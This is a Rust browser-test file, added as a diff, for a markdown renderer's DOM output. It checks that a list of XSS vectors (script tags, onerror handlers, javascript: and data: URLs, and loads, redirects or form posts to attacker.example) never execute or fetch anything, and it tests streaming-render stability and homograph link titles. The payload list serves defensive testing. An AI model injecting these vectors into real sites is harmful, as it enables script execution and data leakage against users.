@@ -1,0 +1,245 @@
+//! Answers in the page: what hostile text comes to, and which nodes stay while a text grows.
+//!
+//! The hostile texts of others are no part of this repository. Where `NEXUS_XSS` holds a JSON list of texts when this
+//! is built, they are laid out too.
+
+use nexus::domain::text::markdown::page::{Attribute, Tag};
+use nexus::domain::text::markdown::read;
+use nexus::domain::text::markdown::stream::Growing;
+use nexus::ui::markdown::dom::Sheet;
+use wasm_bindgen::JsCast as _;
+use wasm_bindgen_test::wasm_bindgen_test;
+use web_sys::{Element, Node};
+
+use crate::{script, settle};
+
+/// An empty element in the page.
+fn root() -> Element {
+    script("document.body.appendChild(document.createElement('div'))").unchecked_into()
+}
+
+fn sheet(root: &Element) -> Sheet {
+    Sheet::new(root.clone()).unwrap()
+}
+
+const VECTORS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<style>@import 'https://attacker.example/x'</style>",
+    "<link rel=stylesheet href=https://attacker.example/x>",
+    "<base href=https://attacker.example/>",
+    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
+    "<form action=https://attacker.example><button>x",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "\u{1}javascript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+    "vbscript:alert(1)",
+    "https://attacker.example/x\" onmouseover=\"alert(1)",
+    "https://attacker.example/pixel.png",
+    "//attacker.example/x.png",
+    "x' onerror='alert(1)",
+    "]]><img src=x onerror=alert(1)>",
+    "--><img src=x onerror=alert(1)>",
+    "`<img src=x onerror=alert(1)>`",
+    "\\[\\text{<img src=x onerror=alert(1)>}\\]",
+];
+
+fn vectors() -> Vec<String> {
+    let mut all: Vec<String> = VECTORS.iter().map(|text| (*text).to_owned()).collect();
+    if let Some(others) = option_env!("NEXUS_XSS") {
+        all.extend(serde_json::from_str::<Vec<String>>(others).unwrap());
+    }
+    all
+}
+
+fn places(vector: &str) -> [String; 10] {
+    [
+        vector.to_owned(),
+        format!("[words]({vector})"),
+        format!("[words](<{vector}> \"{vector}\")"),
+        format!("![words]({vector})"),
+        format!("[words][r]\n\n[r]: {vector}"),
+        format!("```{vector}\n{vector}\n```"),
+        format!("| a |\n| - |\n| {vector} |"),
+        format!("# {vector}"),
+        format!("${vector}$ $$\\text{{{vector}}}$$"),
+        format!("words[^1]\n\n[^1]: {vector}"),
+    ]
+}
+
+/// Everything below an element.
+fn all_below(root: &Element) -> Vec<Element> {
+    let all = root.query_selector_all("*").unwrap();
+    (0..all.length()).map(|place| all.item(place).unwrap().unchecked_into()).collect()
+}
+
+#[wasm_bindgen_test]
+async fn no_hostile_text_runs_loads_or_makes_an_element_off_the_list() {
+    script(
+        "window.ran = []; for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
+            window[name] = () => window.ran.push(name);
+        window.addEventListener('error', (event) => window.ran.push(event.message));
+        performance.setResourceTimingBufferSize(100000); performance.clearResourceTimings()",
+    );
+    let tags: Vec<&str> = Tag::ALL.iter().map(|tag| tag.name()).collect();
+    let names: Vec<&str> = Attribute::ALL.iter().map(|name| name.name()).collect();
+    let vectors = vectors();
+    for vector in &vectors {
+        for text in places(vector) {
+            let root = root();
+            sheet(&root).show(read(&text).nodes);
+            // The same as it grows.
+            let (growing_root, mut growing) = (self::root(), Growing::default());
+            let mut sheet = sheet(&growing_root);
+            let (first, second) =
+                text.split_at(text.char_indices().nth(text.chars().count() / 2).map_or(0, |(at, _)| at));
+            sheet.grow(growing.grow(first));
+            sheet.grow(growing.grow(second));
+            for root in [root, growing_root] {
+                for element in all_below(&root) {
+                    let tag = element.tag_name().to_lowercase();
+                    assert!(tags.contains(&tag.as_str()), "{tag} from {text:?}");
+                    for name in element.get_attribute_names().iter().filter_map(|name| name.as_string()) {
+                        assert!(names.contains(&name.as_str()), "{name} on {tag} from {text:?}");
+                    }
+                    if let Some(address) = element.get_attribute("href") {
+                        let scheme = address.split(':').next().unwrap();
+                        assert!(["https", "http", "mailto"].contains(&scheme), "{address} from {text:?}");
+                    }
+                    if let Some(source) = element.get_attribute("src") {
+                        assert!(source.starts_with("data:image/"), "{source} from {text:?}");
+                    }
+                }
+                root.remove();
+            }
+        }
+    }
+    settle().await;
+    let ran = script("JSON.stringify(window.ran)").as_string().unwrap();
+    assert_eq!(ran, "[]", "something ran");
+    let asked = script(
+        "JSON.stringify(performance.getEntriesByType('resource').map((entry) => entry.name)
+            .filter((name) => !name.startsWith(location.origin) && !name.startsWith('data:')))",
+    );
+    assert_eq!(asked.as_string().unwrap(), "[]", "something was requested");
+    assert!(vectors.len() >= VECTORS.len());
+}
+
+const TEXT: &str = "# Title\n\nA paragraph with *marks*.\n\n- one\n- two\n\n```js\nlet a = 1;\nlet b = 2;\n```\n\nAnd `more` of it.\n";
+
+#[wasm_bindgen_test]
+fn a_finished_block_is_made_once() {
+    let root = root();
+    let (mut sheet, mut growing) = (sheet(&root), Growing::default());
+    let mut known: Vec<Node> = Vec::new();
+    let mut finished = 0;
+    for piece in TEXT.as_bytes().chunks(3) {
+        let update = growing.grow(std::str::from_utf8(piece).unwrap());
+        let new = update.finished.len();
+        sheet.grow(update);
+        let children = root.child_nodes();
+        for place in finished..finished + new {
+            known.push(children.item(place as u32).unwrap());
+        }
+        finished += new;
+        for (place, node) in known.iter().enumerate() {
+            assert!(node.is_same_node(children.item(place as u32).as_ref()), "block {place} was made again");
+        }
+    }
+    assert!(finished >= 4);
+    // The whole text, read once more, changes nothing.
+    let last: Node = root.last_child().unwrap();
+    let before = root.outer_html();
+    sheet.show(read(TEXT).nodes);
+    assert_eq!(root.outer_html(), before);
+    for (place, node) in known.iter().enumerate() {
+        assert!(node.is_same_node(root.child_nodes().item(place as u32).as_ref()));
+    }
+    assert!(last.is_same_node(root.last_child().as_ref()));
+    root.remove();
+}
+
+#[wasm_bindgen_test]
+async fn nothing_above_the_open_block_changes_while_it_grows() {
+    let root = root();
+    let (mut sheet, mut growing) = (sheet(&root), Growing::default());
+    sheet.grow(growing.grow("First.\n\nSecond.\n\nThird"));
+    script("window.changed = 0; window.sheetRoot = document.body.lastElementChild;
+        window.watcher = new MutationObserver((records) => { for (const record of records) {
+            const index = Array.prototype.findIndex.call(window.sheetRoot.children, (c) => c.contains(record.target));
+            if (index >= 0 && index < 2) window.changed += 1; } });
+        window.watcher.observe(window.sheetRoot, { subtree: true, childList: true, characterData: true, attributes: true })");
+    let second = root.child_nodes().item(1).unwrap();
+    for piece in [" one", " **two", "** three", "\n", "and `four`"] {
+        sheet.grow(growing.grow(piece));
+    }
+    settle().await;
+    assert_eq!(script("window.watcher.disconnect(); window.changed").as_f64(), Some(0.0));
+    assert!(second.is_same_node(root.child_nodes().item(1).as_ref()));
+    root.remove();
+}
+
+#[wasm_bindgen_test]
+fn an_open_fence_only_appends() {
+    let root = root();
+    let (mut sheet, mut growing) = (sheet(&root), Growing::default());
+    sheet.grow(growing.grow("```text\nfirst line\n"));
+    let code = root.query_selector("code").unwrap().unwrap();
+    let text = code.first_child().unwrap();
+    for line in 0..200 {
+        sheet.grow(growing.grow(&format!("line {line}\n")));
+    }
+    assert!(text.is_same_node(code.first_child().as_ref()), "the text was made again");
+    assert!(code.text_content().unwrap().ends_with("line 199"));
+    root.remove();
+}
+
+#[wasm_bindgen_test]
+fn what_the_reader_selected_stays_selected() {
+    let root = root();
+    let (mut sheet, mut growing) = (sheet(&root), Growing::default());
+    sheet.grow(growing.grow("Select these words"));
+    script("window.getSelection().selectAllChildren(document.body.lastElementChild.firstElementChild)");
+    let selected = || script("String(window.getSelection())").as_string().unwrap();
+    assert_eq!(selected(), "Select these words");
+    sheet.grow(growing.grow(", and more.\n\nNext."));
+    sheet.show(read("Select these words, and more.\n\nNext.").nodes);
+    assert!(selected().starts_with("Select these words"), "{}", selected());
+    root.remove();
+}
+
+#[wasm_bindgen_test]
+fn maths_and_links_are_what_the_browser_takes_them_for() {
+    let root = root();
+    sheet(&root).show(
+        read("$\\frac{a}{b}$ and [words](https://a.example/x 'title') and <https://b\u{430}nk.example>")
+            .nodes,
+    );
+    let fraction = root.query_selector("mfrac").unwrap().unwrap();
+    assert_eq!(fraction.namespace_uri().as_deref(), Some("http://www.w3.org/1998/Math/MathML"));
+    let links = root.query_selector_all("a").unwrap();
+    let link = |place| links.item(place).unwrap().unchecked_into::<Element>();
+    assert_eq!(link(0).get_attribute("rel").as_deref(), Some("noopener noreferrer nofollow"));
+    assert_eq!(link(0).get_attribute("title").as_deref(), Some("a.example · title"));
+    // A host in mixed letters is told in the letters that no other host has.
+    assert!(
+        link(1).get_attribute("title").unwrap().starts_with("xn--"),
+        "{:?}",
+        link(1).get_attribute("title")
+    );
+    root.remove();
+}
